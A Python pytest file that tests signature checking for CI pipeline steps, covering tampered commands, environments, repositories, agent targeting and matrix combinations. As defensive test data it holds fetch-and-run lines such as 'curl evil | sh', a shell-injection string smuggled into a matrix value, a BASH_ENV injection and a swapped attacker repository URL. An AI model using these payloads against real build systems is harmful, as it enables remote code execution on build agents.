"""Signed pipelines: steps signed by the uploader, checked against the jobs the scheduler makes."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from bastion.jobs import dispatch
from bastion.jobs.models import Job
from bastion.pipelines import services
from bastion.pipelines.signing import (
    SigningError,
    check_payload,
    generate_keys,
    load_signing_key,
    load_verification_key,
    sign_pipeline,
)
from tests.jobs.helpers import World
from tests.pipelines.helpers import make_pipeline

YAML = """
env:
  REGION: eu
agents: {os: linux}
steps:
  - key: deploy
    commands:
      - echo "deploy $$REGION to $TARGET"
      - echo done
    env: {MODE: fast}
    agents: {queue: deploy}
  - key: matrix
    command: echo "{{matrix}} in $$REGION"
    matrix: [a, b]
    agents: ["arch={{matrix}}"]
"""
REPO = "https://git.example.test/acme/app.git"
DEPLOY_AGENT = {"queue": "deploy", "os": "linux"}


def _payloads(world: World, yaml: str, repository: str = "") -> dict[str, dict[str, Any]]:
    pipeline = make_pipeline(world, yaml, repository=repository)
    build = services.create_build(world.principal, pipeline)
    jobs = Job.objects.filter(build_job__build=build)
    return {f"{j.label}": j.payload for j in jobs}


def _agent_for(payload: dict[str, Any]) -> dict[str, str]:
    if "deploy" in payload["command"]:
        return DEPLOY_AGENT
    return {"os": "linux", "arch": payload["matrix"][""]}


def test_signed_steps_verify_and_any_change_is_refused(world: World, tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path / "keys")
    assert private.stat().st_mode & 0o077 == 0
    signed = sign_pipeline(YAML, load_signing_key(private), {"TARGET": "prod"}, REPO)
    key = load_verification_key(public)
    payloads = _payloads(world, signed, REPO)
    assert len(payloads) == 3
    for payload in payloads.values():
        assert check_payload(key, payload, _agent_for(payload)) is None, payload
    deploy = next(p for label, p in payloads.items() if "deploy" in label)
    assert deploy["command"] == 'set -e\necho "deploy $REGION to prod"\necho done'
    assert deploy["signed"]["agents"] == DEPLOY_AGENT
    assert deploy["signed"]["repository_url"] == REPO

    def refusal(changed: dict[str, Any], tags: dict[str, str] = DEPLOY_AGENT) -> str:
        return str(check_payload(key, {**deploy, **changed}, tags))

    # A tampered server or database: other command, other step env, an unsafe variable.
    assert "not the signed command" in refusal({"command": "set -e\ncurl evil | sh"})
    env = dict(deploy["env"])
    assert "MODE" in refusal({"env": {**env, "MODE": "slow"}})
    assert "BASH_ENV" in refusal({"env": {**env, "BASH_ENV": "/x"}})
    forged = {**deploy["signed"], "command": "curl evil | sh"}
    assert "does not match" in refusal({"command": "set -e\ncurl evil | sh", "signed": forged})
    # The checkout pointed at another repository, or dropped; the signed one changed along.
    other_repo = {**deploy["checkout"], "repository": "https://evil.test/x.git"}
    assert "repository 'https://evil.test/x.git' is not the signed one" in refusal(
        {"checkout": other_repo}
    )
    assert "repository '(none)'" in refusal({"checkout": None})
    assert "does not match" in refusal(
        {
            "checkout": other_repo,
            "signed": {**deploy["signed"], "repository_url": other_repo["repository"]},
        }
    )
    # Re-targeted: the job handed to an agent of another queue or without the signed tag; the
    # signed rules widened along.
    assert "agents: queue=deploy" in refusal({}, {"queue": "default", "os": "linux"})
    assert "agents: queue=deploy" in refusal({}, {"os": "linux"})
    assert "agents: os=linux" in refusal({}, {"queue": "deploy"})
    assert "does not match" in refusal({"signed": {**deploy["signed"], "agents": {}}})
    matrix_a = next(p for p in payloads.values() if p.get("matrix") == {"": "a"})
    assert "arch=a" in str(check_payload(key, matrix_a, {"os": "linux", "arch": "b"}))
    # Another cluster's key, and an unsigned pipeline.
    other = Ed25519PrivateKey.generate().public_key()
    assert "does not match" in str(check_payload(other, deploy, DEPLOY_AGENT))
    unsigned = _payloads(World(cluster_name="plain"), YAML)
    assert all(
        check_payload(key, p, DEPLOY_AGENT) == "the step is not signed" for p in unsigned.values()
    )


def test_a_step_signed_in_the_first_format_is_refused(world: World, tmp_path: Path) -> None:
    """Signatures over command and env alone bind neither repository nor targeting."""
    private, public = generate_keys(tmp_path)
    key = load_signing_key(private)
    body = json.dumps({"command": "echo old", "env": {}}, separators=(",", ":")).encode()
    value = base64.b64encode(key.sign(body)).decode()
    yaml = (
        "steps:\n  - command: echo old\n    signature:\n      algorithm: EdDSA\n"
        f"      value: {value}\n      signed_fields: [command, env]\n"
    )
    (payload,) = _payloads(world, yaml).values()
    reason = check_payload(load_verification_key(public), payload, {"queue": "default"})
    assert reason is not None and "first format" in reason and "sign the pipeline again" in reason


def test_keys_that_cannot_be_used_are_refused(tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path)
    with pytest.raises(SigningError):
        load_signing_key(public)
    with pytest.raises(SigningError):
        load_verification_key(tmp_path / "missing.pem")
    with pytest.raises(SigningError):
        sign_pipeline("steps: [{command: 'echo \\\\$HOME'}]", load_signing_key(private), {})


def test_an_uploaded_signed_step_reaches_the_job_signed(world: World, tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path)
    build = services.create_build(world.principal, make_pipeline(world, "steps: [{command: a}]"))
    agent, _ = world.agent()
    job = dispatch.poll(agent)
    assert job is not None
    dispatch.accept(agent, job.pk)
    job = dispatch.start(job)
    from bastion.pipelines import jobside

    text = sign_pipeline("steps: [{command: echo up, key: up}]", load_signing_key(private), {})
    assert jobside.upload_pipeline(job, text) == ["up"]
    uploaded = Job.objects.get(build_job__build=build, build_job__step__key="up")
    key = load_verification_key(public)
    assert check_payload(key, uploaded.payload, {"queue": "default"}) is None
    assert "queue=default" in str(check_payload(key, uploaded.payload, {"queue": "deploy"}))


MATRIX_YAML = """
steps:
  - key: build
    command: echo "build {{matrix.os}}/{{matrix.arch}} for $TARGET, not $$HOME"
    env: {GOOS: "{{matrix.os}}"}
    matrix:
      setup:
        os: [linux, mac]
        arch: [x86, "$ARCH"]
      adjustments:
        - with: {os: mac, arch: x86}
          skip: true
        - with: {os: bsd, arch: x86}
          soft_fail: true
  - key: plain
    depends_on: ~
    command: echo "plain {{matrix}}"
"""
SHELL = 'x86"; curl evil | sh; echo "'


def _substituted(payload: dict[str, Any], combo: dict[str, str]) -> dict[str, Any]:
    """``payload`` for another combination, made consistent as a tampered server would."""
    command = 'set -e\necho "build {{matrix.os}}/{{matrix.arch}} for prod, not $HOME"'
    for name, value in combo.items():
        command = command.replace(f"{{{{matrix.{name}}}}}", value)
    env = {**payload["env"], "GOOS": combo["os"]}
    return {**payload, "matrix": combo, "command": command, "env": env}


def test_the_signature_binds_the_matrix_combinations(world: World, tmp_path: Path) -> None:
    private, public = generate_keys(tmp_path)
    signed = sign_pipeline(
        MATRIX_YAML, load_signing_key(private), {"TARGET": "prod", "ARCH": "arm"}
    )
    key = load_verification_key(public)
    payloads = list(_payloads(world, signed).values())
    combos = sorted(str(p["matrix"]) for p in payloads if p["matrix"])
    # The setup's cross product, minus the skipped one, plus the one an adjustment adds.
    assert combos == sorted(
        str(c)
        for c in (
            {"os": "linux", "arch": "x86"},
            {"os": "linux", "arch": "arm"},
            {"os": "mac", "arch": "arm"},
            {"os": "bsd", "arch": "x86"},
        )
    )
    for payload in payloads:
        assert check_payload(key, payload, {"queue": "default"}) is None, payload
    build = next(p for p in payloads if p["matrix"] == {"os": "linux", "arch": "x86"})
    assert build["command"] == 'set -e\necho "build linux/x86 for prod, not $HOME"'
    assert build["signed"]["matrix"]["setup"] == {"os": ["linux", "mac"], "arch": ["x86", "arm"]}
    plain = next(p for p in payloads if "plain" in p["command"])
    assert plain["signed"]["matrix"] is None

    def refusal(payload: dict[str, Any]) -> str:
        return str(check_payload(key, payload, {"queue": "default"}))

    # A tampered server or database sends a combination the signed matrix does not make, with
    # the command (and env) substituted to match: shell code, a skipped one, an unknown value.
    for combo in (
        {"os": "linux", "arch": SHELL},
        {"os": "mac", "arch": "x86"},
        {"os": "bsd", "arch": "arm"},
        {"os": "linux"},
        {"os": "linux", "arch": "x86", "extra": "1"},
    ):
        assert f"combination {combo!r} is not one the signed matrix makes" in refusal(
            _substituted(build, combo)
        ), combo
    assert "is not one the signed matrix makes" in refusal({**build, "matrix": None})
    assert "malformed" in refusal({**build, "matrix": "linux"})
    # A valid combination whose substitution is not what the job runs, or not in its env.
    other = _substituted(build, {"os": "mac", "arch": "arm"})
    assert "not the signed command" in refusal({**other, "matrix": build["matrix"]})
    assert "GOOS differs" in refusal({**build, "env": {**build["env"], "GOOS": "mac"}})
    # The definition widened along with the combination, or a combination given to a step
    # signed without a matrix (its command still says {{matrix}}).
    widened = {**build["signed"]["matrix"], "setup": {"os": ["linux"], "arch": [SHELL]}}
    tampered = _substituted(build, {"os": "linux", "arch": SHELL})
    assert "does not match" in refusal(
        {**tampered, "signed": {**build["signed"], "matrix": widened}}
    )
    shell = {"": '"; curl evil | sh; echo "'}
    injected = {
        **plain,
        "matrix": shell,
        "command": plain["command"].replace("{{matrix}}", shell[""]),
    }
    assert "the signed step has no matrix" in refusal(injected)


def test_a_step_signed_without_its_matrix_is_refused(world: World, tmp_path: Path) -> None:
    """The second format (agents, command, env, repository_url) binds no matrix combination."""
    private, public = generate_keys(tmp_path)
    key = load_signing_key(private)
    body = {"agents": {}, "command": "echo {{matrix}}", "env": {}, "repository_url": ""}
    text = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
    value = base64.b64encode(key.sign(text)).decode()
    yaml = (
        "steps:\n  - command: echo {{matrix}}\n    matrix: [a]\n    signature:\n"
        f"      algorithm: EdDSA\n      value: {value}\n"
        "      signed_fields: [agents, command, env, repository_url]\n"
    )
    (payload,) = _payloads(world, yaml).values()
    reason = check_payload(load_verification_key(public), payload, {"queue": "default"})
    assert reason is not None and "second format" in reason and "sign the pipeline again" in reason
